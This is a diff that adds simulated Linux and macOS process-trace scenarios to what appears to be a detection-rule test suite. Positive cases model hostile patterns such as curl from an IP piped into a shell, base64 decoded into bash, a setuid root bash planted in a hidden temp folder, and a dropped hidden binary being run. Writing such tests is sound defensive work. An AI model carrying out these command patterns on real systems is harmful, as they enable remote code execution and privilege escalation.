@@ -79,8 +79,9 @@ def _(pos: bool):
     return t
 
 
-@scenario("linux", "fetch_pipe_shell_b")
+@scenario("linux", "fetch_pipe_shell_reversed")
 def _(pos: bool):
+    # the pipeline's exec order reversed: the shell reading the pipe execs first
     t = lt()
     sh = linux_login_shell(t)
     if pos:
@@ -119,8 +120,9 @@ def _(pos: bool):
     return t
 
 
-@scenario("linux", "drop_exec_temp_b")
+@scenario("linux", "drop_exec_temp_lineage")
 def _(pos: bool):
+    # the writer's own child runs the dropped file
     t = lt()
     sh = linux_login_shell(t)
     py = t.spawn(sh, "/usr/bin/python3", ["python3", "fetch.py"], cwd="/home/alice")
@@ -249,6 +251,40 @@ def _(pos: bool):
         pipeline(t, sh, ("/usr/bin/base64", ["base64", "-d"]),
                  ("/usr/bin/python3", ["python3", "-m", "json.tool"]))
         t.spawn(sh, "/usr/bin/base64", ["base64", "-d", "cert.b64"], stdout="file")
+    return t
+
+
+@scenario("linux", "decode_pipe_shell_reversed")
+def _(pos: bool):
+    # `echo ... | base64 -d | bash` with bash exec'ing before base64
+    t = lt()
+    sh = linux_login_shell(t)
+    t.fork(sh, stdout="pipe")
+    if pos:
+        pipeline(t, sh, ("/usr/bin/base64", ["base64", "-d"]), ("/usr/bin/bash", ["bash"]),
+                 left_first=False)
+    else:
+        # python3 reading a pipe with a script argument, then a decoder beside it
+        pipeline(t, sh, ("/usr/bin/base64", ["base64", "-d"]),
+                 ("/usr/bin/python3", ["python3", "check.py"]), left_first=False)
+    return t
+
+
+@scenario("linux", "setuid_file_temp")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "root", 0)
+    if pos:
+        # install -m 4755 plants a setuid root copy of a shell in a hidden temp folder
+        i = t.spawn(sh, "/usr/bin/install", ["install", "-m", "4755", "/bin/bash", "/tmp/.cache/bash"])
+        t.write(i, "/tmp/.cache/bash", create=True, uid=0, mode=0o104755)
+    else:
+        # ordinary executables and a setgid directory's file in /tmp, a setuid file installed in /usr/local
+        i = t.spawn(sh, "/usr/bin/install", ["install", "-m", "755", "build/tool", "/tmp/tool"])
+        t.write(i, "/tmp/tool", create=True, uid=0, mode=0o100755)
+        i = t.spawn(sh, "/usr/bin/install", ["install", "-m", "4755", "build/helper",
+                                             "/usr/local/bin/helper"])
+        t.write(i, "/usr/local/bin/helper", create=True, uid=0, mode=0o104755)
     return t
 
 
@@ -730,6 +766,11 @@ def _(pos: bool):
             t.rename(py, f, f"/home/alice/Pictures/2026-11-{i + 1:02d}.jpg")
         gpg = t.spawn(sh, "/usr/bin/gpg", ["gpg", "-c", "/home/alice/secrets.txt"])
         t.write(gpg, "/home/alice/secrets.txt.gpg", create=True)
+        # a sync tool moves finished temporary files into place under a listed extension:
+        # the target is not the source plus an extension
+        sync = t.spawn(sh, "/usr/bin/python3", ["python3", "vault_sync.py"])
+        for i in range(12):
+            t.rename(sync, f"/home/alice/vault/.tmp-{i:04d}", f"/home/alice/vault/blob-{i:04d}.enc")
     return t
 
 
@@ -822,6 +863,37 @@ def _(pos: bool):
     return t
 
 
+@scenario("macos", "fetch_pipe_shell_reversed")
+def _(pos: bool):
+    # the shell reading the pipe execs before the downloader
+    t = mt()
+    sh = msh(t)
+    if pos:
+        mspawn(t, sh, "/bin/zsh", ["zsh"], stdin="pipe", stdout="tty")
+        mspawn(t, sh, "/usr/bin/curl", ["curl", "-fsSL", "https://203.0.113.7/install"], stdout="pipe")
+    else:
+        mspawn(t, sh, "/bin/zsh", ["zsh"], stdin="pipe", stdout="tty")
+        mspawn(t, sh, "/bin/cat", ["cat", "setup.sh"], stdout="pipe")
+        mspawn(t, sh, "/usr/bin/curl", ["curl", "-so", "x.tgz", "https://example.org/x.tgz"],
+               stdout="tty")
+    return t
+
+
+@scenario("macos", "drop_exec_temp_lineage")
+def _(pos: bool):
+    # a downloader script runs what it wrote itself
+    t = mt()
+    sh = msh(t)
+    py = mspawn(t, sh, "/usr/bin/python3", ["python3", "fetch.py"])
+    if pos:
+        t.write(py, "/Users/Shared/.agent", create=True)
+        t.spawn(py, "/Users/Shared/.agent", ["/Users/Shared/.agent"], stdin="null", stdout="null")
+    else:
+        t.write(py, "/private/tmp/out.json", create=True)
+        mspawn(t, py, "/usr/bin/plutil", ["plutil", "-p", "/private/tmp/out.json"])
+    return t
+
+
 @scenario("macos", "drop_exec_temp")
 def _(pos: bool):
     t = mt()
@@ -884,6 +956,20 @@ def _(pos: bool):
         mspawn(t, sh, "/bin/zsh", ["zsh"], stdin="pipe", stdout="tty")
     else:
         mspawn(t, sh, "/usr/bin/plutil", ["plutil", "-p", "-"], stdin="pipe", stdout="tty")
+    return t
+
+
+@scenario("macos", "decode_pipe_shell_reversed")
+def _(pos: bool):
+    # the shell reading the pipe execs before the decoder
+    t = mt()
+    sh = msh(t)
+    t.fork(sh, stdout="pipe")
+    if pos:
+        mspawn(t, sh, "/bin/zsh", ["zsh"], stdin="pipe", stdout="tty")
+    else:
+        mspawn(t, sh, "/usr/bin/plutil", ["plutil", "-p", "-"], stdin="pipe", stdout="tty")
+    mspawn(t, sh, "/usr/bin/base64", ["base64", "-D"], stdin="pipe", stdout="pipe")
     return t
 
 
@@ -1345,6 +1431,10 @@ def _(pos: bool):
     w = t.spawn(sh, "/Users/alice/Downloads/x/run", ["run"])
     for f in files:
         t.rename(w, f, f + (".encrypted" if pos else ".bak"))
+    if not pos:
+        # moved into place under a listed extension, but not the source plus an extension
+        for i, f in enumerate(files):
+            t.rename(w, f + ".bak", f"/Users/alice/Desktop/vault-{i:02d}.encrypted")
     return t
 
 
